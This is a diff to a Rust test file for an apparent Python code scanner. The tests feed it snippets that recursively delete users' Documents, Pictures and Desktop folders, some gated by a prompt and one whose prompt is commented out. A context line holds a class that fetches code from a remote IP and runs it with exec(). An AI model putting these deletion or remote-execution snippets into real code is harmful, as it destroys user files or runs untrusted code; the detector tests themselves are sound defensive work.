@@ -147,6 +147,32 @@ fn folders_of_people_that_are_deleted_and_pages_that_run_what_is_sent() {
 }
 
 #[test]
+fn a_folder_of_people_that_is_deleted_behind_a_question_is_in_doubt() {
+    all_are(
+        Dialect::Python,
+        Rule::HomeDestroyedAsked,
+        &[
+            "import shutil, os\nif input('Delete? ') == 'y':\n    shutil.rmtree(os.path.expanduser('~/Documents'))\n",
+            "import click, shutil\nfrom pathlib import Path\nif click.confirm('Delete?'):\n    shutil.rmtree(Path.home() / 'Pictures')\n",
+            "import argparse, shutil, os\np = argparse.ArgumentParser()\np.add_argument('--yes', action='store_true')\nif p.parse_args().yes:\n    shutil.rmtree(os.path.expanduser('~/Desktop'))\n",
+        ],
+    );
+    all_are(
+        Dialect::Python,
+        Rule::HomeDestroyed,
+        &[
+            "import shutil, os\n# input('Delete? ')\nshutil.rmtree(os.path.expanduser('~/Documents'))  # confirm()\n",
+        ],
+    );
+    all_are_honest(
+        Dialect::Python,
+        &[
+            "import shutil\nfrom pathlib import Path\nif input('Delete? ') == 'y':\n    shutil.rmtree(Path.home() / '.helper')\nshutil.rmtree(Path.home() / 'helper-work')\nshutil.rmtree(Path.home() / '.cache')\n",
+        ],
+    );
+}
+
+#[test]
 fn a_body_that_begins_with_a_text_goes_on_behind_it() {
     let class = "import urllib.request\nclass R:\n    DOC\n    at = 'http://203.0.113.9/u'\n\n    def load(self, u):\n        DOC\n        exec(urllib.request.urlopen(u + '/x').read())\n\n    def go(self):\n        self.load(self.at)\n";
     for doc in [
